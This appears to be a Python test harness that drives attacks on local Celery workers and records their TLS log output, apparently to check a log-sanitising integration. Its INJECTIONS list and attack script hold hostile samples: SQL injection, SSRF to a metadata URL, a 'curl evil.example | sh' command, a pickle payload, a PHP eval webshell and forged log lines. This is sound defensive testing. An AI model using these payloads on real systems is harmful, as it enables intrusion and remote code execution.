"""Makes the captures of this folder: workers of deploy/e2e/abuse.py are attacked, and what each sends over TLS is
written down. Run it as root, for it gives the machine another name:

    unshare --uts sh -c 'hostname shop-a; exec PYTHON capture.py'

PYTHON has celery[redis,auth] and PyYAML. It and the Python that it was made from lie under /opt, for their paths stand in
tracebacks; redis-server and openssl are on the PATH.

NAME.bin    the bytes of the connections of one worker, one after another: octet-counted RFC 5424
"""
import os
import shutil
import socket
import ssl
import subprocess
import sys
import threading
import time

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.normpath(os.path.join(HERE, "..", "..", "..", ".."))
WORK = "/srv/shop"  # stands in tracebacks, so it is a name like any shop's


class Sink:
    """Writes down what comes on a port."""

    def __init__(self, name):
        self.name, self.parts = name, []
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.port = self.socket.getsockname()[1]
        threading.Thread(target=self.accept, daemon=True).start()

    def accept(self):
        while True:
            conn, _ = self.socket.accept()
            threading.Thread(target=self.read, args=(conn,), daemon=True).start()

    def read(self, conn):
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.num_tickets = 0  # a client that only writes would lose its tail
        context.load_cert_chain(WORK + "/server.pem", WORK + "/server.key")
        part = bytearray()
        self.parts.append(part)
        try:
            conn = context.wrap_socket(conn, server_side=True)
            while data := conn.recv(1 << 16):
                part += data
        except OSError:
            pass

    def save(self):
        with open(f"{HERE}/{self.name}.bin", "wb") as f:
            f.write(b"".join(self.parts))
        print(f"{self.name:10} {len(self.parts):4} parts {sum(map(len, self.parts)):8} bytes")


def until(done, what, within=60):
    end = time.monotonic() + within
    while not done():
        if time.monotonic() > end:
            sys.exit("did not happen: " + what)
        time.sleep(0.05)


def openssl(*args):
    subprocess.run(("openssl",) + args, check=True, stderr=subprocess.DEVNULL, stdout=subprocess.DEVNULL, cwd=WORK)


def redis(*args):
    p = subprocess.Popen(("redis-server", "--save", "", "--appendonly", "no") + args, stdout=subprocess.PIPE, text=True)
    until(lambda: "eady to accept" in p.stdout.readline(), "redis")
    threading.Thread(target=p.stdout.read, daemon=True).start()
    return p


class Worker:
    def __init__(self, name, level="INFO", **env):
        self.sink = Sink(name)
        self.env = dict(os.environ, PYTHONDONTWRITEBYTECODE="1", ABUSE_CERTS=WORK, DESTRING_ADDRESS="localhost:%d" % self.sink.port, DESTRING_CA=WORK + "/server.pem", **env)
        self.log = open(f"{WORK}/{name}.log", "w")
        queue = "signed" if env.get("ABUSE_SIGNED") else "abused"
        self.process = subprocess.Popen((sys.executable, "-m", "celery", "-A", "abuse", "worker", "-l", level, "--concurrency", "2", "-Q", queue, "-n", name + "@%h", "-I", "destring_celery"),
                                        env=self.env, cwd=WORK, stdout=self.log, stderr=self.log)

    def ready(self):
        until(lambda: " ready." in open(self.log.name).read(), "the worker's start")

    def does(self, code):
        """Runs code beside the app."""
        subprocess.run((sys.executable, "-c", "from abuse import *\n" + code), env=self.env, cwd=WORK, check=True)

    def end(self):
        self.process.terminate()
        self.process.wait(60)
        time.sleep(2)
        self.sink.save()


# What attackers put in arguments, with a harmless neighbour of each.
INJECTIONS = [
    "x' OR '1'='1", "O'Reilly", "http://169.254.169.254/latest/meta-data/iam", "http://example.com/latest", "../../../../etc/passwd", "a/b/../c",
    "{{7*7}}{{config.__class__.__mro__}}", "{{ name }}", "x; curl http://evil.example/a | sh", "curl is a command", "cposix\nsystem\n(S'id'\ntR.", "posix system",
    "stratum+tcp://pool.example:3333", "strata", "<?php @eval($_POST[1]);", "<?php echo 1;", "https://webhook.site/0b1f2c3d", "https://hooks.example.com/x",
]

ATTACKS = '''
def wait(n=0.5):
    time.sleep(n)

for n in range(5):
    echo.delay("order %d" % n)
attack_pickle()
app.send_task("abuse.echo", args=["x"], serializer="yaml", queue="abused")
wait()
attack_unregistered()
app.send_task("os.system", args=["id"], queue="abused")
for n in range(5):
    app.send_task("abuse.guess_%d" % n, queue="abused")
app.send_task("abuse.<script>alert(1)</script>", queue="abused", task_id="not-a-uuid")
wait()
with app.connection() as c:
    c.Producer().publish({"not": "a task"}, routing_key="abused", serializer="json")
    for n in range(6):
        c.Producer().publish(b"{broken json", routing_key="abused", content_type="application/json", content_encoding="utf-8", headers={"task": "abuse.echo", "id": "0b1f2c3d-0000-4000-8000-00000000000%d" % n})
wait(3)
app.control.time_limit("abuse.nap", soft=30, hard=60)
app.control.rate_limit("abuse.no_such_task", "1/m")
app.control.broadcast("no_such_command")
app.control.add_consumer("exfil", reply=True)
app.control.cancel_consumer("exfil", reply=True)
app.control.enable_events()
app.control.inspect(timeout=1).conf()
app.control.revoke("0b1f2c3d-0000-4000-8000-00000000beef")
app.control.revoke(["0b1f2c3d-0000-4000-8000-%012d" % n for n in range(60)])
wait()
for signal in ("SIGTERM", "SIGKILL"):
    r = nap.delay(60)
    wait(2)
    app.control.terminate(r.id, signal=signal)
    wait(2)
attack_rate_limit()
crash.delay()
slow.delay()
wait(4)
say.delay("forged\\n[2026-11-25 10:00:00,000: INFO/MainProcess] Task abuse.echo[0b1f2c3d-0000-4000-8000-000000000001] received")
say.delay("colour \\x1b[31mred\\x1b[0m and \\u202eturned")
say.delay("nothing to see: [REDACTED:password:fp=0123456789abcdef]")
say.delay("two lines\\nof an ordinary text")
fail.delay("something is not right")
fail.delay("401 Client Error: Unauthorized for url: https://api.example.com/v1/charge")
again.delay()
wait(3)
'''


def main():
    os.makedirs(WORK)
    for file in ("celery/destring_celery.py", "e2e/abuse.py"):
        shutil.copy(os.path.join(ROOT, "deploy", file), WORK)
    openssl("req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-keyout", "server.key", "-out", "server.pem", "-subj", "/CN=localhost", "-days", "2", "-addext", "subjectAltName=DNS:localhost")
    openssl("req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", "key.pem", "-out", "cert.pem", "-subj", "/CN=shop", "-days", "2")
    openssl("genrsa", "-traditional", "-out", "rogue.key", "2048")
    brokers = [redis("--port", "0", "--unixsocket", WORK + "/redis.sock"), redis("--port", "16379", "--bind", "127.0.0.1", "--requirepass", "not-guessed-" + os.urandom(8).hex())]
    at = "redis+socket://" + WORK + "/redis.sock"

    locked = Worker("locked", ABUSE_BROKER="redis://:wrong@127.0.0.1:16379/0")
    attacked = Worker("attacked", ABUSE_BROKER=at)
    attacked.ready()
    attacked.does(ATTACKS)
    attacked.does("attack_shutdown()")
    attacked.process.wait(60)
    attacked.end()

    debug = Worker("debug", "DEBUG", ABUSE_BROKER=at + "?virtual_host=1")
    debug.ready()
    debug.does(f"for text in {INJECTIONS!r}:\n    echo.delay(text)\napp.control.inspect(timeout=1).conf()\napp.control.inspect(timeout=1).registered()\ntime.sleep(2)")
    debug.end()

    signed = Worker("signed", ABUSE_BROKER=at + "?virtual_host=2", ABUSE_SIGNED="1")
    signed.ready()
    signed.does("echo.delay('x')\nattack_signature()\ntime.sleep(2)")
    signed.end()

    poisoned = Worker("poisoned", ABUSE_BROKER=at + "?virtual_host=3")
    poisoned.ready()
    poisoned.does("""with app.connection() as c:
    c.Producer().publish("no task", routing_key="abused", serializer="json", headers={"task": "abuse.echo"})""")
    until(lambda: open(poisoned.log.name).read().count("Connection to broker lost") >= 6, "a loop")
    poisoned.process.kill()  # the message would come for ever
    poisoned.end()

    until(lambda: open(locked.log.name).read().count("Cannot connect") >= 6, "six refusals", 120)
    locked.process.kill()
    locked.end()
    for b in brokers:
        b.terminate()
        b.wait(30)
    shutil.rmtree(WORK)


main()
